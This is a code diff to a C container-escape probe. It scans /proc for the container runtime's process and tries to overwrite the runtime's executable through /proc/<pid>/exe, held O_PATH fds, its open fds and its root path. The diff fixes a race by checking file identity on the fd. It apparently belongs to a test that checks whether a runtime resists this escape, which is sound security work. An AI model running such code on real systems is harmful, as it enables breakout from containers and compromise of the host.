@@ -2,8 +2,9 @@
  * holds CAP_SYS_PTRACE. Until the file STOP exists it loops over every /proc/<pid> it can see
  * and, for each process whose executable is not its own nor busybox (that is: the runtime
  * entering the container):
- *   - opens /proc/<pid>/exe O_WRONLY (the direct overwrite);
- *   - keeps an O_PATH fd of it, and retries each kept fd as /proc/self/fd/N with O_WRONLY on
+ *   - opens /proc/<pid>/exe O_PATH, checks what file that is, and reopens it O_WRONLY through
+ *     /proc/self/fd/N at once (the direct overwrite);
+ *   - keeps that O_PATH fd, and retries each kept fd as /proc/self/fd/N with O_WRONLY on
  *     every round (the reopen after the runtime has left, when nothing executes it any more);
  *   - keeps an O_PATH fd of any fd of that process that is the same file;
  *   - with a HOSTPATH argument, also O_PATH-opens /proc/<pid>/root/HOSTPATH (the runtime's
@@ -35,6 +36,8 @@
 /* Kept fds, one per file and mount (a read-only bind shares the inode of a writable path). */
 static struct { int fd; dev_t dev; ino_t ino; unsigned long long mnt; } held[MAX_HELD];
 static int nheld, seen, opened, sealed;
+/* The attacker itself and the rootfs's busybox: never targets. */
+static struct stat me, bb;
 static char errors[1024], wins[256], targets[2048];
 
 static void note(char *buf, size_t cap, const char *word) {
@@ -59,10 +62,11 @@ static void wrote(int fd, const char *how) {
 
 static void failed(void) { note(errors, sizeof errors, strerrorname_np(errno)); }
 
-static void hold(int fd, dev_t self_dev, ino_t self_ino) {
+static void hold(int fd) {
     struct stat st;
     struct statx stx;
-    if (fstat(fd, &st) != 0 || (st.st_dev == self_dev && st.st_ino == self_ino) ||
+    if (fstat(fd, &st) != 0 || (st.st_dev == me.st_dev && st.st_ino == me.st_ino) ||
+        (st.st_dev == bb.st_dev && st.st_ino == bb.st_ino) ||
         statx(fd, "", AT_EMPTY_PATH, STATX_MNT_ID, &stx) != 0) {
         close(fd);
         return;
@@ -86,7 +90,6 @@ static void hold(int fd, dev_t self_dev, ino_t self_ino) {
 int main(int argc, char **argv) {
     if (argc < 2) return 2;
     const char *stop = argv[1], *hostpath = argc > 2 ? argv[2] : NULL;
-    struct stat me, bb;
     if (stat("/proc/self/exe", &me) != 0 || stat("/bin/busybox", &bb) != 0) return 2;
     char self[32];
     snprintf(self, sizeof self, "%d", getpid());
@@ -99,23 +102,31 @@ int main(int argc, char **argv) {
         struct dirent *e;
         while ((e = readdir(d))) {
             if (e->d_name[0] < '1' || e->d_name[0] > '9' || !strcmp(e->d_name, self)) continue;
-            char path[4200], link[4096];
+            char path[4200], link[4096], self_fd[64];
             snprintf(path, sizeof path, "/proc/%s/exe", e->d_name);
+            /* The identity is checked on the fd, not the path: the process may execve busybox
+             * between a stat of the path and an open of it, and busybox held for writing
+             * would make the host's next `exec /bin/true` fail ETXTBSY. */
+            int pfd = open(path, O_PATH | O_CLOEXEC);
+            if (pfd < 0) continue;
             struct stat st;
-            if (stat(path, &st) != 0 || (st.st_dev == me.st_dev && st.st_ino == me.st_ino) ||
-                (st.st_dev == bb.st_dev && st.st_ino == bb.st_ino))
+            if (fstat(pfd, &st) != 0 || (st.st_dev == me.st_dev && st.st_ino == me.st_ino) ||
+                (st.st_dev == bb.st_dev && st.st_ino == bb.st_ino)) {
+                close(pfd);
                 continue;
+            }
             seen++;
-            ssize_t n = readlink(path, link, sizeof link - 1);
+            snprintf(self_fd, sizeof self_fd, "/proc/self/fd/%d", pfd);
+            ssize_t n = readlink(self_fd, link, sizeof link - 1);
             if (n > 0) {
                 link[n] = 0;
                 note(targets, sizeof targets, link);
             }
-            int fd = open(path, O_WRONLY | O_CLOEXEC);
+            /* The direct overwrite: the same file /proc/<pid>/exe named when it was checked. */
+            int fd = open(self_fd, O_WRONLY | O_CLOEXEC);
             if (fd >= 0) wrote(fd, "exe-wronly");
             else failed();
-            fd = open(path, O_PATH | O_CLOEXEC);
-            if (fd >= 0) hold(fd, me.st_dev, me.st_ino);
+            hold(pfd);
             /* Any fd of that process that is the same file (dev, ino) as a kept one. */
             snprintf(path, sizeof path, "/proc/%s/fd", e->d_name);
             DIR *fds = opendir(path);
@@ -129,7 +140,7 @@ int main(int argc, char **argv) {
                         fd = open(path, O_PATH | O_CLOEXEC);
                         if (fd >= 0) {
                             note(targets, sizeof targets, "fd-reached");
-                            hold(fd, me.st_dev, me.st_ino);
+                            hold(fd);
                         }
                         break;
                     }
@@ -140,7 +151,7 @@ int main(int argc, char **argv) {
                 fd = open(path, O_PATH | O_CLOEXEC);
                 if (fd >= 0) {
                     note(targets, sizeof targets, "root-reached");
-                    hold(fd, me.st_dev, me.st_ino);
+                    hold(fd);
                 }
             }
         }
